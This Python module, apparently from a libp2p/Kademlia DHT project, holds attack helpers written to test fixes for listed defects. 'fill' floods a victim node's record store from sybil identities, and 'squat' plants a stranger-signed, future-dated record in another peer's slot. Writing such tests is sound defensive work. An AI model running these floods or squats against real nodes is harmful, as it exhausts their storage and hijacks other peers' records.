"""Hostile DHT writers (issue 16, defects 8 and 9), each against a real node's Kademlia protocol.

Every function takes the victim's multiaddr (ending in ``/p2p/<peer id>``) and returns a dict of
what happened, so the same code runs in tests/test_attack_dht_fill.py and in bench/attack.py. The
attacker is a bare libp2p host of ours speaking the wire protocol: it signs records itself.

- ``fill``: PUT_VALUEs of 64 KiB signed records under many keys, from ``identities`` identities
  (each its own host and key, all from this machine's IP: sybils). The unfixed store was capped by
  record count only: one identity stored 600 MB in 55 s.
- ``squat``: a record under subkey = another peer's id, published "ahead" in time, so that peer's
  own value (mesh announcements live in that slot) could not replace it.
"""

from __future__ import annotations

import os
import time
from typing import Any

import trio

from lattice import _proto
from lattice.dht import protocol, records
from lattice.dht.records import Record
from lattice.errors import LatticeError, StreamReset
from lattice.identity import KeyPair, PeerId
from lattice.transport import open_host
from lattice.transport.framing import read_delimited

DEFAULT_PROTOCOL = "/lattice/kad/1.0.0"


def signed_record(
    keypair: KeyPair, key: bytes, value: bytes, subkey: bytes | None = None, ahead: float = 0.0
) -> Record:
    """A validly signed record, ``ahead`` seconds in the future (create() would refuse a foreign
    peer-id subkey, so this signs by hand, as an attacker would)."""
    now = time.time() + ahead
    subkey = keypair.peer_id.multihash if subkey is None else subkey
    expires = now + 3600
    signed = records.signed_bytes(key, subkey, value, now, expires)
    signature = keypair.sign_for(records.SIGN_CONTEXT, signed)
    return Record(key, subkey, value, keypair.public_key.raw, now, expires, signature)


async def _put_all(victim: str, keypair: KeyPair, recs: list[Record], protocol_id: str) -> dict:
    """Send ``recs`` from a host with ``keypair``, on one stream while the victim stores them; count what
    it echoed (stored) and refused (a reset stream)."""
    out = {"sent": 0, "stored": 0, "refused": 0, "stored_value_bytes": 0, "cut_off": False, "error": ""}
    try:
        async with open_host(keypair) as host:
            with trio.fail_after(10):
                conn = await host.connect(victim)
                stream: Any = await host.new_stream(conn, [protocol_id])
            for rec in recs:
                body = protocol.encode(protocol.Message(protocol.PUT_VALUE, rec.key, rec.key, rec.encode()))
                with trio.fail_after(10):
                    if stream is None:  # a refusal resets the stream (as go's server does): reopen
                        stream = await host.new_stream(conn, [protocol_id])
                    await stream.write(_proto.delimited(body))
                    out["sent"] += 1
                    try:
                        raw = await read_delimited(stream, protocol.MAX_MESSAGE)
                    except StreamReset:
                        raw, stream = b"", None
                if raw is None:
                    raise LatticeError("the victim closed the stream")
                if raw and protocol.decode(raw).record_value == rec.encode():
                    out["stored"] += 1
                    out["stored_value_bytes"] += len(rec.value)
                else:
                    out["refused"] += 1
            if stream is not None:
                await stream.close()
    except* (LatticeError, OSError, trio.TooSlowError) as group:  # reset or refused: we were cut off
        exc = group.exceptions[0]
        out["cut_off"] = True
        out["error"] = f"{type(exc).__name__}: {exc}"
    return out


async def fill(
    victim: str,
    identities: int = 1,
    records_per_identity: int = 200,
    value_size: int = 64 * 1024,
    protocol_id: str = DEFAULT_PROTOCOL,
) -> dict[str, Any]:
    """Fill the victim's store: ``identities`` sybils, each sending ``records_per_identity`` records of
    ``value_size`` bytes under fresh keys. Returns counts summed over identities."""
    t0 = time.monotonic()
    total: dict[str, Any] = {"attack": "dht_fill", "identities": identities, "sent": 0, "stored": 0,
                             "refused": 0, "stored_value_bytes": 0, "cut_off": 0}  # fmt: skip
    tag = os.urandom(4).hex()
    for i in range(identities):
        keypair = KeyPair.generate()
        recs = [
            signed_record(keypair, f"fill/{tag}/{i}/{j}".encode(), os.urandom(value_size))
            for j in range(records_per_identity)
        ]
        one = await _put_all(victim, keypair, recs, protocol_id)
        for name in ("sent", "stored", "refused", "stored_value_bytes"):
            total[name] += one[name]
        total["cut_off"] += one["cut_off"]
        if one["error"]:
            total["last_error"] = one["error"]
    total["seconds"] = round(time.monotonic() - t0, 3)
    return total


async def squat(
    victim: str, owner: str, key: bytes, value: bytes = b"squatted", protocol_id: str = DEFAULT_PROTOCOL
) -> dict[str, Any]:
    """Store under ``key`` a record in ``owner``'s own slot (subkey = its peer id), published 60 s
    ahead (within the allowed clock skew), signed by a stranger. Did the victim keep it?"""
    keypair = KeyPair.generate()
    rec = signed_record(keypair, key, value, subkey=PeerId.from_string(owner).multihash, ahead=60.0)
    result = await _put_all(victim, keypair, [rec], protocol_id)
    return {"attack": "dht_squat", "squatter": str(keypair.peer_id), **result}
